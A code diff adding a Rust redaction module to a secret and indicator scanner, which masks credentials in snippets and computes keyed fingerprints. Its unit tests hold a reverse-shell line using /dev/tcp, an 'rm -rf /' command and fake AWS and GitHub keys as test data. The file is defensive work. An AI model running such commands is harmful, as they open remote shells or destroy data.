@@ -1,0 +1,209 @@
+//! Redaction at the source: snippets and fingerprints are built here, from
+//! the scanner's match ranges, before a finding exists. Nothing downstream
+//! ever sees a raw match.
+
+use hmac::{Hmac, Mac};
+use sha2::Sha256;
+use std::ops::Range;
+
+/// How much context a snippet carries. Secrets are replaced in every mode;
+/// no mode shows them.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum SnippetMode {
+    /// About 40 bytes of context each side of the match.
+    #[default]
+    Full,
+    /// About 12 bytes each side.
+    Short,
+    /// No snippet at all (empty string).
+    None,
+}
+
+impl SnippetMode {
+    const fn radius(self) -> usize {
+        match self {
+            SnippetMode::Full => 40,
+            SnippetMode::Short => 12,
+            SnippetMode::None => 0,
+        }
+    }
+}
+
+/// Longest part of a matched indicator shown in a snippet.
+const MAX_FOCUS: usize = 160;
+
+/// A range of the scanned text that must never appear in output, with the
+/// rule id that recognised it.
+#[derive(Debug, Clone)]
+pub struct Redaction {
+    pub range: Range<usize>,
+    pub label: &'static str,
+}
+
+/// Builds the redacted snippet for a match at `focus` in `text`. Every
+/// redaction range overlapping the window is replaced whole by
+/// `[REDACTED:<label>]` (even where it extends past the window), so no
+/// partial secret leaks at the edges; remaining token-like runs are masked.
+pub fn snippet(text: &[u8], focus: Range<usize>, redactions: &[Redaction], mode: SnippetMode) -> String {
+    if mode == SnippetMode::None {
+        return String::new();
+    }
+    let radius = mode.radius();
+    let len = text.len();
+    let start = focus.start.min(len).saturating_sub(radius);
+    let focus_end = focus.end.min(len).min(focus.start + MAX_FOCUS);
+    let end = (focus_end + radius).min(len);
+
+    let mut overlapping: Vec<&Redaction> = redactions
+        .iter()
+        .filter(|r| r.range.start < end && r.range.end > start)
+        .collect();
+    overlapping.sort_by_key(|r| r.range.start);
+
+    let mut out = String::with_capacity(end - start + 32);
+    if start > 0 {
+        out.push('…');
+    }
+    let mut pos = start;
+    for r in overlapping {
+        if r.range.start > pos {
+            push_plain(&mut out, &text[pos..r.range.start.min(end)]);
+        }
+        if r.range.end > pos {
+            out.push_str("[REDACTED:");
+            out.push_str(r.label);
+            out.push(']');
+            pos = r.range.end;
+        }
+        if pos >= end {
+            break;
+        }
+    }
+    if pos < end {
+        push_plain(&mut out, &text[pos..end]);
+    }
+    if end < len {
+        out.push('…');
+    }
+    out
+}
+
+fn is_token_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'_' | b'-')
+}
+
+/// Appends bytes as printable text: control characters become spaces, and
+/// token-like runs that could be credentials (≥ 8 bytes with letters and
+/// digits, or ≥ 24 bytes of any token characters) become `[MASKED]`.
+fn push_plain(out: &mut String, bytes: &[u8]) {
+    let mut i = 0;
+    while i < bytes.len() {
+        if is_token_byte(bytes[i]) {
+            let s = i;
+            let (mut digit, mut alpha) = (false, false);
+            while i < bytes.len() && is_token_byte(bytes[i]) {
+                digit |= bytes[i].is_ascii_digit();
+                alpha |= bytes[i].is_ascii_alphabetic();
+                i += 1;
+            }
+            let run = &bytes[s..i];
+            if (run.len() >= 8 && digit && alpha) || run.len() >= 24 {
+                out.push_str("[MASKED]");
+            } else {
+                // Token bytes are ASCII.
+                out.extend(run.iter().map(|&b| char::from(b)));
+            }
+            continue;
+        }
+        let s = i;
+        while i < bytes.len() && !is_token_byte(bytes[i]) {
+            i += 1;
+        }
+        for ch in String::from_utf8_lossy(&bytes[s..i]).chars() {
+            out.push(if ch.is_control() { ' ' } else { ch });
+        }
+    }
+}
+
+/// A keyed, truncated fingerprint of a matched value: HMAC-SHA-256 under the
+/// guardian's own key, first 8 bytes as hex. Keyed so the log cannot be used
+/// to brute-force short secrets; truncated because it only correlates.
+pub fn fingerprint(key: &[u8; 32], rule_id: &str, value: &[u8]) -> String {
+    // HMAC accepts keys of any length, so this cannot fail.
+    let mut mac = match Hmac::<Sha256>::new_from_slice(key) {
+        Ok(m) => m,
+        Err(_) => return String::new(),
+    };
+    mac.update(rule_id.as_bytes());
+    mac.update(&[0]);
+    mac.update(value);
+    let digest = mac.finalize().into_bytes();
+    hex::encode(&digest[..8])
+}
+
+/// Normalises an indicator (a command or a path) so trivially different
+/// spellings correlate: ASCII-lowercased, whitespace runs collapsed.
+pub fn normalize_indicator(value: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(value.len());
+    let mut space = false;
+    for &b in value {
+        if b.is_ascii_whitespace() {
+            space = true;
+            continue;
+        }
+        if space && !out.is_empty() {
+            out.push(b' ');
+        }
+        space = false;
+        out.push(b.to_ascii_lowercase());
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn secret_is_replaced_and_context_kept() {
+        let text = b"POST /upload token=AKIAQWERTYUIOPASDFGH&next=1 trailing text here";
+        let r = 19..39;
+        let red = [Redaction { range: r.clone(), label: "aws_access_key_id" }];
+        let s = snippet(text, r, &red, SnippetMode::Full);
+        assert!(s.contains("token=[REDACTED:aws_access_key_id]&next=1"), "{s}");
+        assert!(!s.contains("QWERTYUIOP"));
+        let short = snippet(text, 19..39, &red, SnippetMode::Short);
+        assert!(short.len() < s.len());
+        assert_eq!(snippet(text, 19..39, &red, SnippetMode::None), "");
+    }
+
+    #[test]
+    fn redaction_crossing_the_window_edge_is_replaced_whole() {
+        let mut text = b"x".repeat(100);
+        text.extend_from_slice(b" ghp_Abcdefghijklmnopqrstuvwxyz0123456789 ");
+        let secret = 101..141;
+        let red = [Redaction { range: secret, label: "github_pat" }];
+        // Focus far left: the window ends inside the secret.
+        let s = snippet(&text, 60..62, &red, SnippetMode::Full);
+        assert!(!s.contains("ghp_Abc"), "{s}");
+    }
+
+    #[test]
+    fn token_like_runs_are_masked_but_words_and_commands_stay() {
+        let mut out = String::new();
+        push_plain(&mut out, b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 key=Zx9Qm2Lp7Rt4Vb8N\n");
+        assert_eq!(out, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 key=[MASKED] ");
+    }
+
+    #[test]
+    fn fingerprints_are_keyed_and_stable() {
+        let k1 = [1u8; 32];
+        let k2 = [2u8; 32];
+        let a = fingerprint(&k1, "r", b"secret-value");
+        assert_eq!(a.len(), 16);
+        assert_eq!(a, fingerprint(&k1, "r", b"secret-value"));
+        assert_ne!(a, fingerprint(&k2, "r", b"secret-value"));
+        assert_ne!(a, fingerprint(&k1, "other", b"secret-value"));
+        assert_eq!(normalize_indicator(b"  rm   -rf\t/ "), b"rm -rf /");
+    }
+}
